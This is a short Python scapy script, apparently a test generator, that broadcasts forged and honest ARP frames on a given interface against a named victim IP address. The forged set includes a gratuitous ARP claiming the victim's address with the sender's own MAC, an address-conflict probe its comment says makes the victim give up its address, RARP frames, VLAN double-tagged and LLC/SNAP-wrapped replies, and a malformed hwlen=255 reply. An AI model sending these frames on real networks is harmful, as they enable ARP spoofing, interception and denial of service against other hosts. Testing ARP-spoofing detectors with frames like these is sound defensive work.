# What scapy sends of ARP, forged and honest. Arguments: interface, victim's address.
import sys
from scapy.all import ARP, Dot1AD, Dot1Q, Dot3, Ether, LLC, SNAP, get_if_hwaddr, sendp

iface, victim = sys.argv[1:]
own = get_if_hwaddr(iface)
everyone = "ff:ff:ff:ff:ff:ff"


def claim(ip, op=1, hw=own, target=None):
    return ARP(op=op, hwsrc=hw, psrc=ip, hwdst="00:00:00:00:00:00", pdst=target or ip)


def rarp(hw):
    return ARP(op=3, hwsrc=hw, psrc="0.0.0.0", hwdst=hw, pdst="0.0.0.0")


ether = Ether(src=own, dst=everyone)
snap = LLC() / SNAP(OUI=0, code=0x0806)
sendp([
    # forged
    ether / claim(victim),  # a gratuitous request
    ether / claim("0.0.0.0", target="192.0.2.72"),  # a probe that makes the victim give up
    ether / rarp("52:54:00:00:00:73"),
    Ether(src=own, dst=everyone, type=0x8035) / rarp("52:54:00:00:00:74"),
    ether / Dot1AD(vlan=1) / Dot1Q(vlan=2) / claim("192.0.2.75", op=2),
    Dot3(src=own, dst=everyone) / snap / claim("192.0.2.76", op=2),
    ether / snap / claim("192.0.2.78", op=2),  # scapy takes EtherType 0x8870
    Ether(src="02:00:00:00:00:99", dst=everyone) / claim("192.0.2.20", op=2, hw="02:00:00:00:00:99"),
    ether / ARP(op=2, hwlen=255, hwsrc=own, psrc="192.0.2.20"),
    # honest
    ether / claim("192.0.2.20"),
    ether / claim("0.0.0.0", target="192.0.2.21"),
    ether / claim("192.0.2.5", target="192.0.2.1"),
], iface=iface, verbose=False)
